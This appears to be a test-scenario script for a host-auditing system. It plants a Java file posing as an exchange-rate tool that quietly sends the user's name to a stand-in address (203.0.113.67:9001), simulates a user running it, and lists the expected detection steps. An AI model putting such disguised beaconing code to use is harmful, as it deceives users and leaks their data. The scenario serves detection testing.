title="A Java source file from webmail, launched without compiling"
what="buyer saves Rates.java from private webmail with Firefox and runs java Rates.java; the launcher compiles it in memory, it connects to 203.0.113.67 port 9001 by itself. The host records what logged-in people start, where they connect and what they write at home."
host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-people.rules
setup() {
  mkdir -p "$base/out/www/m"
  printf 'import java.io.*; import java.net.*;\npublic class Rates { public static void main(String[] a) throws Exception { try (Socket s = new Socket("203.0.113.67", 9001)) { s.getOutputStream().write(System.getProperty("user.name").getBytes()); } System.out.println("EUR 1.09"); } }\n' > "$base/out/www/m/Rates.java"
}
act() {
  small_talk 1
  display_up
  firefox_save buyer http://webmail.example.com/m/Rates.java Rates.java
  ssh_as buyer <<'L'
mkdir -p rates; mv Downloads/Rates.java rates/
cd rates
java Rates.java
%sleep 1
ls
L
  small_talk 1
}
truth() {
  net_step visit 'firefox.* 203.0.113.83:80' 'webmail'
  file_step save 'firefox.* .*/home/buyer/Downloads/.*Rates.java' 'saved'
  exec_step move 'mv Downloads/Rates.java rates/' 'moved'
  exec_step execute 'java Rates.java' 'launched'
  net_step beacon 'java.* .*203.0.113.67.*:9001' 'it calls out'
}
